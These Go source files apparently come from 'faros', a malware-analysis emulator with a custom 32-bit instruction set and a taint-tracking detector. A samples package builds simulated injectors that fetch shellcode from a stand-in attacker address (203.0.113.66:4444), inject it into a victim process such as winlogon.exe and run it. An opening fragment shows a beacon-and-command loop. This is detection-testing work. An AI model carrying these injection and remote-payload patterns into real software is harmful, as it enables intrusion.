	emitResolveTo(pb, "Send", isa.ESI)
	pb.Mov(isa.EBX, isa.EBP)
	pb.LeaSelf(isa.ECX, "beacon")
	pb.Movi(isa.EDX, beaconLen)
	pb.CallReg(isa.ESI)

	pb.Label("sh_loop")
	emitResolveTo(pb, "Recv", isa.ESI)
	pb.Mov(isa.EBX, isa.EBP)
	pb.LeaSelf(isa.ECX, "cbuf")
	pb.Movi(isa.EDX, 64)
	pb.CallReg(isa.ESI) // EAX = n
	pb.Cmpi(isa.EAX, 0)
	pb.Jz("sh_done")
	emitResolveTo(pb, "DebugPrint", isa.ESI)
	pb.LeaSelf(isa.EBX, "cbuf")
	pb.CallReg(isa.ESI)
	pb.Jmp("sh_loop")
	pb.Label("sh_done")
}

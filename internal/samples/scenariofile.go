package samples

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
)

// ScenarioFile is the on-disk JSON description of a custom injection
// scenario: bring-your-own shellcode (in FAROS-32 text assembly or hex)
// plus the standard victim/injector scaffolding. It lets a researcher
// probe the detection policy without writing Go:
//
//	{
//	  "name": "my_attack",
//	  "victim": "winlogon.exe",
//	  "injector": "dropper.exe",
//	  "payload_asm": "payload.s",
//	  "attacker": {"ip": "203.0.113.66", "port": 4444},
//	  "self_inject": false,
//	  "max_instr": 4000000
//	}
//
// Exactly one of payload_asm (a path, relative to the scenario file) or
// payload_hex must be set.
type ScenarioFile struct {
	Name       string `json:"name"`
	Victim     string `json:"victim"`
	Injector   string `json:"injector"`
	PayloadASM string `json:"payload_asm,omitempty"`
	PayloadHex string `json:"payload_hex,omitempty"`
	Attacker   struct {
		IP   string `json:"ip"`
		Port uint16 `json:"port"`
	} `json:"attacker"`
	// SelfInject uses the reverse_tcp_dns shape (no separate victim).
	SelfInject bool   `json:"self_inject,omitempty"`
	DelayInstr uint64 `json:"delay_instr,omitempty"`
	MaxInstr   uint64 `json:"max_instr,omitempty"`
}

// LoadScenarioFile parses and materializes a scenario description.
func LoadScenarioFile(path string) (Spec, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return Spec{}, fmt.Errorf("samples: %w", err)
	}
	var sf ScenarioFile
	if err := json.Unmarshal(raw, &sf); err != nil {
		return Spec{}, fmt.Errorf("samples: %s: %w", path, err)
	}
	return BuildScenario(sf, filepath.Dir(path))
}

// BuildScenario materializes a ScenarioFile into a runnable Spec. baseDir
// resolves relative payload paths.
func BuildScenario(sf ScenarioFile, baseDir string) (Spec, error) {
	if sf.Name == "" {
		return Spec{}, fmt.Errorf("samples: scenario needs a name")
	}
	if sf.Injector == "" {
		sf.Injector = "dropper.exe"
	}
	if sf.Attacker.IP == "" {
		sf.Attacker.IP = AttackerAddr.IP
		sf.Attacker.Port = AttackerAddr.Port
	}
	if sf.DelayInstr == 0 {
		sf.DelayInstr = 400
	}
	if sf.MaxInstr == 0 {
		sf.MaxInstr = 4_000_000
	}

	payload, err := scenarioPayload(sf, baseDir)
	if err != nil {
		return Spec{}, err
	}

	addr := gnet.Addr{IP: sf.Attacker.IP, Port: sf.Attacker.Port}
	spec := Spec{
		Name:      sf.Name,
		Endpoints: []EndpointSpec{{Addr: addr, Endpoint: oneShot{delay: sf.DelayInstr, payload: payload}}},
		MaxInstr:  sf.MaxInstr,
	}

	switch {
	case sf.SelfInject:
		spec.Programs = []Program{selfInjectorAt(sf.Injector, uint32(len(payload)), addr)}
		spec.AutoStart = []string{sf.Injector}
	default:
		if sf.Victim == "" {
			return Spec{}, fmt.Errorf("samples: scenario %q needs a victim (or self_inject)", sf.Name)
		}
		spec.Programs = []Program{
			victimProgram(sf.Victim),
			networkInjectorAt(sf.Injector, sf.Victim, uint32(len(payload)), addr),
		}
		spec.AutoStart = []string{sf.Victim, sf.Injector}
	}
	return spec, nil
}

// scenarioPayload loads/assembles the payload bytes.
func scenarioPayload(sf ScenarioFile, baseDir string) ([]byte, error) {
	switch {
	case sf.PayloadASM != "" && sf.PayloadHex != "":
		return nil, fmt.Errorf("samples: scenario %q: payload_asm and payload_hex are mutually exclusive", sf.Name)
	case sf.PayloadASM != "":
		src, err := os.ReadFile(filepath.Join(baseDir, sf.PayloadASM))
		if err != nil {
			return nil, fmt.Errorf("samples: %w", err)
		}
		block, err := isa.Parse(string(src))
		if err != nil {
			return nil, fmt.Errorf("samples: %s: %w", sf.PayloadASM, err)
		}
		return block.Assemble(0)
	case sf.PayloadHex != "":
		clean := strings.Map(func(r rune) rune {
			if r == ' ' || r == '\n' || r == '\t' {
				return -1
			}
			return r
		}, sf.PayloadHex)
		payload, err := hex.DecodeString(clean)
		if err != nil {
			return nil, fmt.Errorf("samples: payload_hex: %w", err)
		}
		return payload, nil
	}
	return nil, fmt.Errorf("samples: scenario %q has no payload", sf.Name)
}

// networkInjectorAt is networkInjector with a configurable attacker.
func networkInjectorAt(name, victimName string, payloadLen uint32, addr gnet.Addr) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("victim").DataString(victimName)
	buf := b.BSS(8192)
	emitConnect(b, addr)
	emitRecvAll(b, buf, payloadLen)
	emitFindAndOpenProcess(b, "victim")
	emitInjectAndRun(b, buf, payloadLen)
	emitExit(b, 0)
	return build(b, name)
}

// selfInjectorAt mirrors selfInjector with a configurable attacker.
func selfInjectorAt(name string, payloadLen uint32, addr gnet.Addr) Program {
	b := peimg.NewBuilder(name)
	buf := b.BSS(8192)
	emitConnect(b, addr)
	emitRecvAll(b, buf, payloadLen)
	b.Text.Movi(isa.EBX, 0)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, payloadLen)
	b.Text.Movi(isa.ESI, 7)
	b.CallImport("VirtualAlloc")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Label("sf_cp")
	b.Text.Cmpi(isa.ECX, payloadLen)
	b.Text.Jge("sf_go")
	b.Text.Movi(isa.ESI, buf)
	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
	b.Text.StbIdx(isa.EBP, isa.ECX, isa.EAX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("sf_cp")
	b.Text.Label("sf_go")
	b.Text.CallReg(isa.EBP)
	emitExit(b, 0)
	return build(b, name)
}

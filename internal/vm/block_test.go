package vm

import (
	"testing"

	"faros/internal/isa"
	"faros/internal/mem"
)

// newRWXMachine is newTestMachine with a writable code page, for the
// self-modifying-code tests.
func newRWXMachine(t *testing.T, b *isa.Block) *Machine {
	t.Helper()
	phys := mem.NewPhys()
	space := mem.NewSpace(phys, 0xC0DE)
	code, err := b.Assemble(codeBase)
	if err != nil {
		t.Fatal(err)
	}
	if err := space.Map(codeBase, mem.PagesSpanned(codeBase, uint32(len(code))), mem.PermRWX); err != nil {
		t.Fatal(err)
	}
	for i, by := range code {
		pa, err := space.Translate(codeBase+uint32(i), mem.AccessWrite)
		if err != nil {
			t.Fatal(err)
		}
		if err := phys.WriteByteAt(pa, by); err != nil {
			t.Fatal(err)
		}
	}
	if err := space.Map(dataBase, 4, mem.PermRW); err != nil {
		t.Fatal(err)
	}
	if err := space.Map(stackBase, 1, mem.PermRW); err != nil {
		t.Fatal(err)
	}
	m := New(phys)
	m.SetSpace(space)
	m.CPU.EIP = codeBase
	m.CPU.Regs[isa.ESP] = stackTop
	return m
}

// runBlocksToHalt drives the machine through RunBlock (the kernel's
// dispatch entry) until it halts, returning retired instructions.
func runBlocksToHalt(t *testing.T, m *Machine, maxSteps uint64) uint64 {
	t.Helper()
	var total uint64
	for total < maxSteps {
		n, trap, err := m.RunBlock(maxSteps - total)
		total += n
		if err != nil {
			t.Fatalf("run block: %v", err)
		}
		if trap == TrapHalt {
			return total
		}
	}
	t.Fatalf("no halt within %d instructions", maxSteps)
	return 0
}

// copyLoop assembles the memcpy-shaped loop the corpus is dominated by:
// fused compare-and-branch head, LDB/STB body, fused ALU+JMP back edge.
func copyLoop(n uint32) *isa.Block {
	b := isa.NewBlock()
	b.Movi(isa.ESI, dataBase)       // src
	b.Movi(isa.EDI, dataBase+0x100) // dst
	b.Movi(isa.ECX, 0)
	b.Movi(isa.EDX, 0) // checksum
	// Fill src with i*3.
	b.Label("fill")
	b.Cmpi(isa.ECX, n)
	b.Jge("copy")
	b.Mov(isa.EAX, isa.ECX)
	b.Muli(isa.EAX, 3)
	b.StbIdx(isa.ESI, isa.ECX, isa.EAX)
	b.Addi(isa.ECX, 1)
	b.Jmp("fill")
	// Copy src → dst, accumulating a checksum.
	b.Label("copy")
	b.Movi(isa.ECX, 0)
	b.Label("cp")
	b.Cmpi(isa.ECX, n)
	b.Jge("done")
	b.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
	b.StbIdx(isa.EDI, isa.ECX, isa.EAX)
	b.LdbIdx(isa.EBX, isa.EDI, isa.ECX)
	b.Add(isa.EDX, isa.EBX)
	b.Addi(isa.ECX, 1)
	b.Jmp("cp")
	b.Label("done")
	b.Hlt()
	return b
}

// TestBlockDispatchMatchesStep runs the same program through block
// dispatch and through the per-instruction Step path and requires
// identical architectural outcomes — registers, memory, and the exact
// retired-instruction count (the record/replay cursor).
func TestBlockDispatchMatchesStep(t *testing.T) {
	mb := newTestMachine(t, copyLoop(64))
	nb := runBlocksToHalt(t, mb, 100_000)

	ms := newTestMachine(t, copyLoop(64))
	ms.SetBlockDispatch(false)
	ns := runBlocksToHalt(t, ms, 100_000)

	if nb != ns {
		t.Errorf("retired %d instructions via blocks, %d via steps", nb, ns)
	}
	if mb.CPU.Regs != ms.CPU.Regs {
		t.Errorf("register files diverged:\nblocks: %v\nsteps:  %v", mb.CPU.Regs, ms.CPU.Regs)
	}
	for i := uint32(0); i < 64; i++ {
		vb, _, err := mb.DataRead8(dataBase + 0x100 + i)
		if err != nil {
			t.Fatal(err)
		}
		vs, _, err := ms.DataRead8(dataBase + 0x100 + i)
		if err != nil {
			t.Fatal(err)
		}
		if vb != vs {
			t.Fatalf("dst[%d] = %d via blocks, %d via steps", i, vb, vs)
		}
	}

	st := mb.BlockStats()
	if st.Built == 0 || st.Hits == 0 {
		t.Errorf("block cache unused: %+v", st)
	}
	if st.FusedOps == 0 {
		t.Errorf("copy loop retired no superinstructions: %+v", st)
	}
	if off := ms.BlockStats(); off.Built != 0 {
		t.Errorf("disabled dispatch still built blocks: %+v", off)
	}
}

// TestSuperblockExtendsThroughConditional: the loop-head conditional must
// not end the block — the body rides in the same block and a taken exit
// is a mid-block side exit with an exact fused-op count.
func TestSuperblockExtendsThroughConditional(t *testing.T) {
	m := newTestMachine(t, copyLoop(8))
	runBlocksToHalt(t, m, 10_000)

	// Find the loop-head block: it starts with a fused compare-and-branch
	// (the exit test) and must span the body behind it, not stop at the
	// conditional.
	found := false
	for off := uint32(0); off < 0x200; off += isa.InstrSize {
		blk := m.LookupBlock(codeBase + off)
		if blk == nil || len(blk.Uops) == 0 {
			continue
		}
		if k := blk.Uops[0].Kind; (k == isa.UCmpJccRI || k == isa.UCmpJccRR) && blk.NInstr > 2 {
			found = true
			break
		}
	}
	if !found {
		t.Error("no block extends through a leading compare-and-branch")
	}
}

// TestBlockInvalidationOnSelfModify: a store into the executing code page
// must invalidate the cached block and take effect on the very next
// visit, even when the patched instruction sits later in the same block.
func TestBlockInvalidationOnSelfModify(t *testing.T) {
	build := func() *isa.Block {
		b := isa.NewBlock()
		// Patch the immediate byte of the instruction at "patch" (offset
		// +4 is the little-endian imm's low byte), then fall through into
		// it. The store and its target share one straight-line block.
		b.MoviLabel(isa.ESI, "patch")
		b.Addi(isa.ESI, codeBase+4)
		b.Movi(isa.EAX, 0x22)
		b.Stb(isa.ESI, 0, isa.EAX)
		b.Label("patch")
		b.Movi(isa.EBX, 0x11)
		b.Hlt()
		return b
	}

	mb := newRWXMachine(t, build())
	nb := runBlocksToHalt(t, mb, 100)
	if got := mb.CPU.Regs[isa.EBX]; got != 0x22 {
		t.Errorf("patched immediate not observed via blocks: EBX = %#x, want 0x22", got)
	}
	if st := mb.BlockStats(); st.Invalidated == 0 {
		t.Errorf("self-modifying store invalidated nothing: %+v", st)
	}

	ms := newRWXMachine(t, build())
	ms.SetBlockDispatch(false)
	ns := runBlocksToHalt(t, ms, 100)
	if got := ms.CPU.Regs[isa.EBX]; got != 0x22 {
		t.Errorf("patched immediate not observed via steps: EBX = %#x, want 0x22", got)
	}
	if nb != ns {
		t.Errorf("retired %d instructions via blocks, %d via steps", nb, ns)
	}
}

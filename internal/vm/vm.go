// Package vm implements the whole-system virtual machine: a single
// deterministic FAROS-32 CPU executing over paged virtual memory, with a
// plugin callback bus modeled on PANDA's.
//
// Analysis plugins (the FAROS DIFT engine, the Cuckoo baseline, tracers)
// register hooks that fire before/after every instruction and on every data
// memory access. The CPU itself knows nothing about processes or syscalls;
// it raises traps that the guest kernel interprets.
package vm

import (
	"fmt"

	"faros/internal/isa"
	"faros/internal/mem"
)

// Flags is the CPU condition-flag state set by CMP.
type Flags struct {
	Z bool // last comparison was equal
	S bool // last comparison was signed less-than
}

// CPU is the architectural register state. It is copied wholesale on
// context switches, so it contains no pointers.
type CPU struct {
	Regs  [isa.NumRegs]uint32
	EIP   uint32
	Flags Flags
}

// Trap is the reason Step returned control to the kernel.
type Trap uint8

// Trap kinds.
const (
	// TrapNone means the instruction completed; execution may continue.
	TrapNone Trap = iota + 1
	// TrapSyscall means a SYSCALL executed; EIP points after it.
	TrapSyscall
	// TrapHalt means HLT executed.
	TrapHalt
	// TrapFault means the instruction faulted (decode error or memory
	// violation); EIP still points at the faulting instruction.
	TrapFault
)

func (t Trap) String() string {
	switch t {
	case TrapNone:
		return "none"
	case TrapSyscall:
		return "syscall"
	case TrapHalt:
		return "halt"
	case TrapFault:
		return "fault"
	}
	return "trap?"
}

// InstrHook observes an instruction about to execute (or just executed).
// Before-hooks see the pre-execution register state, which is what the DIFT
// engine mirrors to compute effective addresses.
type InstrHook func(m *Machine, pc uint32, in isa.Instruction)

// InstrPlugin is the method form of a before-instruction hook. An analysis
// engine that implements it and registers via OnInstrPlugin is dispatched
// as a single interface call per instruction — no method-value thunk —
// which is measurably cheaper at one call per executed instruction.
type InstrPlugin interface {
	BeforeInstr(m *Machine, pc uint32, in isa.Instruction)
}

// MemHook observes a data memory access. pa is the translated physical
// address of the first byte; size is 1 or 4.
type MemHook func(m *Machine, pc uint32, in isa.Instruction, va uint32, pa mem.PhysAddr, size int)

// Machine is the whole system: physical memory, one CPU, and the plugin bus.
type Machine struct {
	// CPU is the live architectural state.
	CPU CPU
	// InstrCount counts retired instructions and doubles as the machine's
	// clock; the record/replay log is stamped with it.
	InstrCount uint64

	phys  *mem.Phys
	space *mem.Space

	// icache caches decoded instructions per physical frame, indexed by
	// frame number (frames are allocated densely from zero). Guest stores
	// and kernel copies invalidate the written frames, so self-modifying
	// payloads and JIT code caches decode fresh. A slice keeps the
	// per-store invalidation at an indexed nil assignment instead of a map
	// delete.
	icache []*icachePage

	// fetchTLB is a one-entry software TLB for sequential instruction
	// fetch: it remembers the current code page's icache entry and is
	// dropped on context switch, mapping change (space generation), or
	// icache invalidation. vpn doubles as the valid bit (invalidVPN =
	// invalid); the entry always belongs to the current space because
	// SetSpace invalidates it, so the per-fetch check is just vpn + gen.
	fetchTLB struct {
		gen   uint64
		vpn   uint32
		frame uint32
		page  *icachePage
	}

	// dtlb caches the last read and write data translations (indices 0/1).
	dtlb [2]dataTLBEntry

	// blocks caches predecoded micro-op blocks per physical frame (see
	// block.go), invalidated alongside the icache. btlb is the one-entry
	// lookup TLB; blockEpoch counts invalidations so running blocks can
	// detect self-modifying code.
	blocks     []*blockPage
	btlb       blockTLB
	blockEpoch uint64
	bstats     BlockStats
	// blocksOff disables block dispatch (RunBlock degenerates to Step).
	blocksOff bool
	// legacyHooks is set when any per-instruction/memory hook registers;
	// block dispatch would skip those callbacks, so it turns itself off.
	legacyHooks bool

	beforeInstr []InstrHook
	// plugin is the interface-dispatched before-instruction observer (see
	// InstrPlugin). It fires before the beforeInstr hooks.
	plugin InstrPlugin
	// blockPlugin is plugin's block-level upgrade when it implements
	// BlockPlugin.
	blockPlugin BlockPlugin
	afterInstr  []InstrHook
	memRead     []MemHook
	memWrite    []MemHook
}

// dataTLBEntry is one cached data translation.
type dataTLBEntry struct {
	space *mem.Space
	gen   uint64
	vpn   uint32
	frame uint32
	ok    bool
}

// lookupPA is the data-TLB hit test, call-free so it inlines into the
// read/write helpers; on a miss the caller refills through dataPAFill.
// slot 0 caches reads, slot 1 writes.
func (m *Machine) lookupPA(va uint32, slot int) (mem.PhysAddr, bool) {
	t := &m.dtlb[slot]
	if t.ok && t.space == m.space && t.vpn == va>>mem.PageShift && t.gen == m.space.Gen() {
		return mem.PhysAddr(t.frame)<<mem.PageShift | mem.PhysAddr(va%mem.PageSize), true
	}
	return 0, false
}

// dataPA translates a data access through the data TLB.
func (m *Machine) dataPA(va uint32, kind mem.AccessKind) (mem.PhysAddr, error) {
	slot := 0
	if kind == mem.AccessWrite {
		slot = 1
	}
	if pa, ok := m.lookupPA(va, slot); ok {
		return pa, nil
	}
	return m.dataPAFill(va, kind, &m.dtlb[slot])
}

// dataPAFill is the data-TLB miss path: translate and refill the entry.
func (m *Machine) dataPAFill(va uint32, kind mem.AccessKind, t *dataTLBEntry) (mem.PhysAddr, error) {
	pa, err := m.space.Translate(va, kind)
	if err != nil {
		return 0, err
	}
	t.space = m.space
	t.gen = m.space.Gen()
	t.vpn = va >> mem.PageShift
	t.frame = pa.Frame()
	t.ok = true
	return pa, nil
}

// icacheSlots is the number of 8-byte instruction slots per frame.
const icacheSlots = mem.PageSize / isa.InstrSize

// invalidVPN marks the fetch TLB empty; no 32-bit address has this page
// number.
const invalidVPN = ^uint32(0)

// icachePage holds decoded instructions for one physical frame. state 0 is
// unknown, 1 decoded, 2 undecodable.
type icachePage struct {
	instrs [icacheSlots]isa.Instruction
	state  [icacheSlots]uint8
}

// New creates a machine over the given physical memory.
func New(phys *mem.Phys) *Machine {
	m := &Machine{phys: phys}
	m.fetchTLB.vpn = invalidVPN
	m.btlb.vpn = invalidVPN
	return m
}

// InvalidateFrame drops cached decodes for a physical frame. The kernel
// calls it after privileged copies (loader section writes, cross-process
// injection) that bypass the CPU's store path; the CPU itself calls it on
// every store, so it must stay cheap for frames with nothing cached.
func (m *Machine) InvalidateFrame(frame uint32) {
	if int(frame) < len(m.icache) {
		m.icache[frame] = nil
	}
	if m.fetchTLB.frame == frame {
		m.fetchTLB.vpn = invalidVPN
	}
	// Drop cached blocks. The epoch bumps only when the frame actually had
	// a block page, so data-page stores never bail running blocks.
	if int(frame) < len(m.blocks) && m.blocks[frame] != nil {
		m.blocks[frame] = nil
		m.blockEpoch++
		m.bstats.Invalidated++
	}
	if m.btlb.frame == frame {
		m.btlb.vpn = invalidVPN
	}
}

// Phys returns the machine's physical memory.
func (m *Machine) Phys() *mem.Phys { return m.phys }

// SetSpace switches the active address space (the CR3 load of a context
// switch). The kernel saves/restores CPU state around it.
func (m *Machine) SetSpace(s *mem.Space) {
	if m.space != s {
		m.fetchTLB.vpn = invalidVPN
		m.btlb.vpn = invalidVPN
	}
	m.space = s
}

// Space returns the active address space (nil before the first SetSpace).
func (m *Machine) Space() *mem.Space { return m.space }

// CR3 returns the active address space identity, or 0 if none.
func (m *Machine) CR3() uint32 {
	if m.space == nil {
		return 0
	}
	return m.space.CR3()
}

// OnBeforeInstr registers a hook that fires before each instruction
// executes. Per-instruction hooks pin the machine to the per-instruction
// dispatch path.
func (m *Machine) OnBeforeInstr(h InstrHook) {
	m.beforeInstr = append(m.beforeInstr, h)
	m.legacyHooks = true
}

// OnInstrPlugin registers the interface-dispatched before-instruction
// observer. Only one may be registered; it fires before any OnBeforeInstr
// hooks. If the plugin also implements BlockPlugin, block dispatch routes
// whole predecoded blocks through it instead.
func (m *Machine) OnInstrPlugin(p InstrPlugin) {
	if m.plugin != nil {
		panic("vm: OnInstrPlugin called twice")
	}
	m.plugin = p
	if bp, ok := p.(BlockPlugin); ok {
		m.blockPlugin = bp
	}
}

// OnAfterInstr registers a hook that fires after each retired instruction.
func (m *Machine) OnAfterInstr(h InstrHook) {
	m.afterInstr = append(m.afterInstr, h)
	m.legacyHooks = true
}

// OnMemRead registers a hook observing data loads.
func (m *Machine) OnMemRead(h MemHook) {
	m.memRead = append(m.memRead, h)
	m.legacyHooks = true
}

// OnMemWrite registers a hook observing data stores.
func (m *Machine) OnMemWrite(h MemHook) {
	m.memWrite = append(m.memWrite, h)
	m.legacyHooks = true
}

// HookCount returns the number of registered hooks; the scenario harness
// reports it so performance runs can document their instrumentation level.
func (m *Machine) HookCount() int {
	n := len(m.beforeInstr) + len(m.afterInstr) + len(m.memRead) + len(m.memWrite)
	if m.plugin != nil {
		n++
	}
	return n
}

// FetchInstr reads and decodes the instruction at va with execute
// permission, going through the decoded-instruction cache when the fetch
// does not straddle a page boundary.
func (m *Machine) FetchInstr(va uint32) (isa.Instruction, error) {
	// Fast path: same code page as the previous fetch, mappings unchanged.
	if t := &m.fetchTLB; t.vpn == va>>mem.PageShift &&
		t.gen == m.space.Gen() && va%isa.InstrSize == 0 {
		slot := (va % mem.PageSize) / isa.InstrSize
		if t.page.state[slot] == 1 {
			return t.page.instrs[slot], nil
		}
	}
	pa, err := m.space.Translate(va, mem.AccessExec)
	if err != nil {
		return isa.Instruction{}, err
	}
	off := pa.Offset()
	if off%isa.InstrSize != 0 || off > mem.PageSize-isa.InstrSize {
		// Unaligned or page-straddling fetch: slow path, uncached.
		buf, err := m.space.ReadBytes(va, isa.InstrSize, mem.AccessExec)
		if err != nil {
			return isa.Instruction{}, err
		}
		return isa.Decode(buf)
	}
	frame := pa.Frame()
	var page *icachePage
	if int(frame) < len(m.icache) {
		page = m.icache[frame]
	}
	if page == nil {
		page = &icachePage{}
		for int(frame) >= len(m.icache) {
			m.icache = append(m.icache, nil)
		}
		m.icache[frame] = page
	}
	m.fetchTLB.gen = m.space.Gen()
	m.fetchTLB.vpn = va >> mem.PageShift
	m.fetchTLB.frame = frame
	m.fetchTLB.page = page
	slot := off / isa.InstrSize
	switch page.state[slot] {
	case 1:
		return page.instrs[slot], nil
	case 2:
		return isa.Instruction{}, fmt.Errorf("vm: invalid instruction at 0x%08X", va)
	}
	f, err := m.phys.Frame(frame)
	if err != nil {
		return isa.Instruction{}, err
	}
	in, err := isa.Decode(f[off : off+isa.InstrSize])
	if err != nil {
		page.state[slot] = 2
		return isa.Instruction{}, err
	}
	page.instrs[slot] = in
	page.state[slot] = 1
	return in, nil
}

// read32 loads a word, firing mem-read hooks.
func (m *Machine) read32(pc uint32, in isa.Instruction, va uint32) (uint32, error) {
	v, pa, err := m.rawRead32(va)
	if err != nil {
		return 0, err
	}
	for _, h := range m.memRead {
		h(m, pc, in, va, pa, 4)
	}
	return v, nil
}

// read8 loads a byte, firing mem-read hooks.
func (m *Machine) read8(pc uint32, in isa.Instruction, va uint32) (uint32, error) {
	v, pa, err := m.rawRead8(va)
	if err != nil {
		return 0, err
	}
	for _, h := range m.memRead {
		h(m, pc, in, va, pa, 1)
	}
	return v, nil
}

// write32 stores a word, firing mem-write hooks and invalidating cached
// decodes for the written frames.
func (m *Machine) write32(pc uint32, in isa.Instruction, va uint32, v uint32) error {
	pa, err := m.rawWrite32(va, v)
	if err != nil {
		return err
	}
	for _, h := range m.memWrite {
		h(m, pc, in, va, pa, 4)
	}
	return nil
}

// write8 stores a byte, firing mem-write hooks.
func (m *Machine) write8(pc uint32, in isa.Instruction, va uint32, v byte) error {
	pa, err := m.rawWrite8(va, v)
	if err != nil {
		return err
	}
	for _, h := range m.memWrite {
		h(m, pc, in, va, pa, 1)
	}
	return nil
}

// EffectiveAddr computes the data address an instruction touches given the
// current register file. It returns ok=false for instructions without a
// memory operand. The DIFT engine uses it on the pre-execution state.
func EffectiveAddr(cpu *CPU, in isa.Instruction) (addr uint32, ok bool) {
	switch in.Op {
	case isa.OpLd, isa.OpLdb:
		if in.Mode == isa.ModeRM {
			return cpu.Regs[in.Src] + in.Imm, true
		}
		return cpu.Regs[in.Src] + cpu.Regs[in.IndexReg()], true
	case isa.OpSt, isa.OpStb:
		if in.Mode == isa.ModeMR {
			return cpu.Regs[in.Dst] + in.Imm, true
		}
		return cpu.Regs[in.Dst] + cpu.Regs[in.IndexReg()], true
	case isa.OpPush, isa.OpCall:
		return cpu.Regs[isa.ESP] - 4, true
	case isa.OpPop, isa.OpRet:
		return cpu.Regs[isa.ESP], true
	}
	return 0, false
}

// FaultError is the typed error carried by every TrapFault return from
// Step. It records the faulting PC so kernels can build structured guest
// exceptions instead of treating the fault as an opaque run failure.
type FaultError struct {
	// PC is the address of the faulting instruction.
	PC uint32
	// Err describes the fault (decode error, memory violation, ...).
	Err error
}

func (e *FaultError) Error() string { return e.Err.Error() }

// Unwrap exposes the underlying fault cause to errors.Is/As.
func (e *FaultError) Unwrap() error { return e.Err }

// fault pairs TrapFault with a typed FaultError at pc.
func fault(pc uint32, err error) (Trap, error) {
	return TrapFault, &FaultError{PC: pc, Err: err}
}

// Step executes one instruction. On TrapFault the returned error is a
// *FaultError describing the fault and EIP is unchanged; for all other
// traps EIP has advanced.
func (m *Machine) Step() (Trap, error) {
	if m.space == nil {
		return fault(m.CPU.EIP, fmt.Errorf("vm: no address space loaded"))
	}
	pc := m.CPU.EIP
	// Fetch fast path, by hand: FetchInstr is beyond the inlining budget,
	// and the call alone is measurable at one call per instruction. The
	// condition mirrors FetchInstr's TLB hit exactly.
	var in isa.Instruction
	var err error
	slot := pc % mem.PageSize / isa.InstrSize
	if t := &m.fetchTLB; t.vpn == pc>>mem.PageShift && t.gen == m.space.Gen() &&
		pc%isa.InstrSize == 0 && t.page.state[slot] == 1 {
		in = t.page.instrs[slot]
	} else {
		in, err = m.FetchInstr(pc)
		if err != nil {
			return fault(pc, fmt.Errorf("vm: fetch at 0x%08X: %w", pc, err))
		}
	}
	if p := m.plugin; p != nil {
		p.BeforeInstr(m, pc, in)
	}
	for _, h := range m.beforeInstr {
		h(m, pc, in)
	}

	next := pc + isa.InstrSize
	trap := TrapNone
	regs := &m.CPU.Regs

	switch in.Op {
	case isa.OpNop:
	case isa.OpHlt:
		trap = TrapHalt
	case isa.OpSyscall:
		trap = TrapSyscall
	case isa.OpMov:
		if in.Mode == isa.ModeRR {
			regs[in.Dst] = regs[in.Src]
		} else {
			regs[in.Dst] = in.Imm
		}
	case isa.OpLd, isa.OpLdb:
		// EffectiveAddr inlined; the &7 masks are free (Decode validated the
		// registers) and let the compiler elide the bounds checks.
		addr := regs[in.Src&7] + in.Imm
		if in.Mode == isa.ModeRX {
			addr = regs[in.Src&7] + regs[in.Imm&7]
		}
		var v uint32
		if in.Op == isa.OpLd {
			v, err = m.read32(pc, in, addr)
		} else {
			v, err = m.read8(pc, in, addr)
		}
		if err != nil {
			return fault(pc, err)
		}
		regs[in.Dst&7] = v
	case isa.OpSt, isa.OpStb:
		addr := regs[in.Dst&7] + in.Imm
		if in.Mode == isa.ModeXR {
			addr = regs[in.Dst&7] + regs[in.Imm&7]
		}
		if in.Op == isa.OpSt {
			err = m.write32(pc, in, addr, regs[in.Src])
		} else {
			err = m.write8(pc, in, addr, byte(regs[in.Src]))
		}
		if err != nil {
			return fault(pc, err)
		}
	case isa.OpAdd, isa.OpSub, isa.OpAnd, isa.OpOr, isa.OpXor, isa.OpMul, isa.OpShl, isa.OpShr:
		src := in.Imm
		if in.Mode == isa.ModeRR {
			src = regs[in.Src]
		}
		regs[in.Dst] = alu(in.Op, regs[in.Dst], src)
	case isa.OpNot:
		regs[in.Dst] = ^regs[in.Dst]
	case isa.OpCmp:
		b := in.Imm
		if in.Mode == isa.ModeRR {
			b = regs[in.Src]
		}
		a := regs[in.Dst]
		m.CPU.Flags.Z = a == b
		m.CPU.Flags.S = int32(a) < int32(b)
	case isa.OpJmp:
		next = m.jumpTarget(pc, in)
	case isa.OpJz, isa.OpJnz, isa.OpJl, isa.OpJg, isa.OpJle, isa.OpJge:
		if m.condTaken(in.Op) {
			next = m.jumpTarget(pc, in)
		}
	case isa.OpCall:
		regs[isa.ESP] -= 4
		if err := m.write32(pc, in, regs[isa.ESP], pc+isa.InstrSize); err != nil {
			regs[isa.ESP] += 4
			return fault(pc, err)
		}
		next = m.jumpTarget(pc, in)
	case isa.OpRet:
		v, err := m.read32(pc, in, regs[isa.ESP])
		if err != nil {
			return fault(pc, err)
		}
		regs[isa.ESP] += 4
		next = v
	case isa.OpPush:
		v := in.Imm
		if in.Mode == isa.ModeRR {
			v = regs[in.Dst]
		}
		regs[isa.ESP] -= 4
		if err := m.write32(pc, in, regs[isa.ESP], v); err != nil {
			regs[isa.ESP] += 4
			return fault(pc, err)
		}
	case isa.OpPop:
		v, err := m.read32(pc, in, regs[isa.ESP])
		if err != nil {
			return fault(pc, err)
		}
		regs[isa.ESP] += 4
		regs[in.Dst] = v
	default:
		return fault(pc, fmt.Errorf("vm: unimplemented opcode %s at 0x%08X", in.Op, pc))
	}

	m.CPU.EIP = next
	m.InstrCount++
	for _, h := range m.afterInstr {
		h(m, pc, in)
	}
	return trap, nil
}

// alu evaluates a two-operand ALU operation (shared with the block
// executors via isa so the semantics cannot drift).
func alu(op isa.Op, a, b uint32) uint32 { return isa.EvalALU(op, a, b) }

// jumpTarget resolves the destination of a jump/call.
func (m *Machine) jumpTarget(pc uint32, in isa.Instruction) uint32 {
	switch in.Mode {
	case isa.ModeRI:
		return in.Imm
	case isa.ModeRel:
		return pc + isa.InstrSize + uint32(in.RelOffset())
	case isa.ModeRR:
		return m.CPU.Regs[in.Dst]
	}
	return pc + isa.InstrSize
}

